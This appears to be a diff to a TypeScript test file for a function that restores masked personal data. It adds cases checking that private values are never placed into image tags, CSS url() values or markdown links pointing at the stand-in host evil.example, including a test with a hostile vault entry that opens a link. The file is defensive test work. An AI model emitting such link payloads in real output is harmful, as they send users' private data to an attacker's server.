@@ -78,10 +78,34 @@ const ADDRESSES = [
   '<img src="//evil.example/PERSON-K7-0010">',
   '<img src=//evil.example/PERSON-K7-0010>',
   'url(//evil.example/PERSON-K7-0010)',
+  '<https://evil.example/"PERSON-K7-0010>',
 ];
 for (const text of ADDRESSES) {
   test(`no value is put into ${text}`, () => assert.equal(restored(text), text));
 }
+
+/** The record's own address may be the attacker's: a customer wrote it into the case and asks for more behind it. */
+const EXTENDED: [masked: string, read: string][] = [
+  ['URL-K7-0010/EMAIL-K7-0010', 'https://example.com/a/EMAIL-K7-0010'],
+  ['URL-K7-0010?q=PERSON-K7-0010 PERSON-K7-0010', 'https://example.com/a?q=PERSON-K7-0010 Ana Souza'],
+  ['[see](URL-K7-0010)EMAIL-K7-0010', '[see](https://example.com/a)EMAIL-K7-0010'],
+  ['<URL-K7-0010"EMAIL-K7-0010>', '<https://example.com/a"EMAIL-K7-0010>'],
+];
+for (const [masked, read] of EXTENDED) {
+  test(`no value is put behind the address in ${masked}`, () => assert.equal(restored(masked), read));
+}
+
+test('a value that is itself half a link takes no other value into its target', () => {
+  const hostile: Vault = {
+    nonce: 'K7',
+    entries: [
+      { token: 'PERSON-K7-0010', type: 'PERSON', value: '[click](https://evil.example/' },
+      { token: 'EMAIL-K7-0010', type: 'EMAIL', value: 'ana@example.com' },
+    ],
+  };
+  const { text } = restoreText('PERSON-K7-0010EMAIL-K7-0010 PERSON-K7-0010/EMAIL-K7-0010)', hostile);
+  assert.doesNotMatch(text, /ana@/);
+});
 
 test('after an address the text goes on', () => {
   assert.equal(
